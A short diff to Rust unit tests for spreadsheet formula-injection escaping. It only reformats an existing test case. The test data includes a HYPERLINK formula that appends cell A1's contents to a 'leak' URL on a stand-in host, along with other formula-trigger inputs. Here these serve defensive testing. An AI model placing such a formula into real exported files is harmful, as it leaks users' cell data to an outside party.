@@ -149,7 +149,10 @@ mod tests {
             ("\t=1", "'\t=1"),
             ("  =1", "'  =1"),
             ("＝1", "'＝1"),
-            ("=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"Click\"\")\""),
+            (
+                "=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")",
+                "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"Click\"\")\"",
+            ),
             ("\r=1", "\"'\r=1\""),
             ("a = b", "a = b"),
             ("RUS-CHN", "RUS-CHN"),
